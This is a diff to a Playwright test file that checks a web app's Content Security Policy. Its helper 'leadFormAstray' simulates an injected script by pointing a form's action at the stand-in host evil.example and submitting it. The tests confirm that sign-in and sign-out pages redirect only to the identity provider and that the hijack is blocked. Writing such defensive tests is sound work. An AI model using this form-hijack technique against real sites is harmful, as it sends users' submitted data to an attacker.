@@ -3,7 +3,7 @@
 import { createHash } from 'node:crypto';
 import { createServer, type IncomingMessage } from 'node:http';
 import type { BrowserContext, Page } from '@playwright/test';
-import { orders, paths, products } from './pages.ts';
+import { orders, paths, products, sessionCookie } from './pages.ts';
 import { expect, test } from './support/fixtures.ts';
 import { freePort } from './support/process.ts';
 import { Stack } from './support/stack.ts';
@@ -132,17 +132,47 @@ test('an injected script does not run, nor does an injected handler or style', a
   }
 });
 
-test('a form cannot be led to another site', async ({ app, page, context, watch }) => {
-  watch.allow(/Content Security Policy/);
-  const broken = await violations(context, app.url);
-  await app.open('/');
+/** As an injected script would, if there were one. */
+async function leadFormAstray(page: Page): Promise<void> {
   await page.evaluate(() => {
     const form = document.querySelector('form')!;
     form.action = 'https://evil.example/';
     form.requestSubmit();
   });
+}
+
+test('a form cannot be led to another site', async ({ app, page, context, watch }) => {
+  watch.allow(/Content Security Policy/);
+  const broken = await violations(context, app.url);
+  await app.open('/');
+  await leadFormAstray(page);
   await expect.poll(() => broken[0]).toContain('form-action https://evil.example/');
   expect(page.url()).toBe(`${app.url}/`);
+});
+
+test('the pages that ask before a sign-in or a sign-out lead to the provider and back, and nowhere else', async ({ app, page, context, watch }) => {
+  watch.allow(/Content Security Policy/);
+  const broken = await violations(context, app.url);
+  // The second time the provider knows the user, and one redirect follows the other.
+  for (const known of [false, true]) {
+    await context.clearCookies({ name: sessionCookie });
+    await app.open('/sign-in?return_to=/profile');
+    await app.confirm('Sign in');
+    if (!known) {
+      await app.provider.signIn('ada');
+    }
+    await expect(app.signOutButton).toBeVisible();
+    expect(app.path).toBe('/profile');
+  }
+  await app.open('/sign-out');
+  await app.confirm('Sign out');
+  await expect(app.signInButton).toBeVisible();
+  expect(broken).toEqual([]);
+
+  await app.open('/sign-in');
+  await leadFormAstray(page);
+  await expect.poll(() => broken[0]).toContain('form-action https://evil.example/');
+  expect(page.url()).toBe(`${app.url}/sign-in`);
 });
 
 test('while cargo leptos watches, a page connects to it and reloads', async ({ browser }) => {
